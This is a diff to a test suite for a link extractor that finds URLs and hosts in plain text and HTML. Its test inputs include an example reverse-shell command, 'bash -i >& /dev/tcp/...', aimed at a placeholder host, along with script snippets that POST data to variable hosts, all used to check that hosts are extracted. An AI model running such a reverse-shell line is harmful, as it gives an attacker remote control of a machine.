@@ -445,20 +445,29 @@ describe("links in a plain text", () => {
       "https://a.example/x",
       "a.example/y"
     ],
+    [
+      "see https://a.example/x\\xa0www.b.example/y",
+      "https://a.example/x\\xa0www.b.example/y",
+      "https://a.example/x",
+      "www.b.example/y"
+    ],
     ["see https://a.example/x\\xa0y", "https://a.example/x\\xa0y", "https://a.example/x"],
     ["①a-b.example ②b-c.example/x", "①a-b.example", "a-b.example", "②b-c.example/x", "b-c.example/x"],
     ["now a-b.com(fake) and f(x).id", "a-b.com"],
-    ...["(fake)", "%20", "%22", "%22%3E", "%3C/a%3E", "%E3%80%82"].map((end): [string, string, string] => [
-      `See https://a.example/x${end} now`,
-      `https://a.example/x${end}`,
-      "https://a.example/x"
-    ]),
+    ...["(fake)", "%20", "%22", "%22%3E", "%3C/a%3E", "%22%3E%3C/a%3E", "%20%3Cbr", "%E3%80%82"].map(
+      (end): [string, string, string] => [
+        `See https://a.example/x${end} now`,
+        `https://a.example/x${end}`,
+        "https://a.example/x"
+      ]
+    ),
     [
       "see https://a.example/?q=%22b%22 and https://b.example/a%20b",
       "https://a.example/?q=%22b%22",
       "https://b.example/a%20b"
     ],
     ["bash -i >& /dev/tcp/a-b.example/443 0>&1, not /dev/tcp/$HOST/80", "a-b.example"],
+    ["/dev/tcp/$x=a-b.example is unusual", "a-b.example"],
     ["(^|\\.)a-b\\.example$ (\\.|^)b-c\\.example$ 1.5.3.4$", "a-b\\.example", "b-c\\.example"],
     ["bad(닷)example.com or bad [점] com/x", "bad(닷)example.com", "bad[점]com/x"],
     ["", ...[]]
@@ -750,6 +759,19 @@ describe("links in HTML", () => {
       `<script>${script.replace("HOST", "https://a.example/x")}</script>`,
       ["https://a.example/x", ""]
     ]),
+    [
+      '<script>/*url:"//b.example/*/location="https://a.example/x"</script>',
+      ["https://b.example/*/location=", ""],
+      ["https://a.example/x", ""]
+    ],
+    ...[
+      'fetch("https://" + x)',
+      "fetch(`https://\u0024{x}.example/y`)",
+      'fetch(`https://\u0024{x}/y`, { method: "POST" })',
+      'fetch("https://" + x, { method: "POST" })',
+      'tiles("https://{s}.a.example/{z}"); r.open("POST", x)'
+    ].map((script): [string] => [`<script>${script}</script>`]),
+    ['<a onclick="go(`https://\u0024{x}.example`, `https://` + y)">'],
     ['<script>fetch("/x.pl"); $.get("//a.example/x")</script>', ["https://a.example/x", ""]],
     [
       `<script>f.src="https://a.example/x"; map.set({"url":"https://b.example"}, "b")</script><a onclick="go('https://c.example')">`,
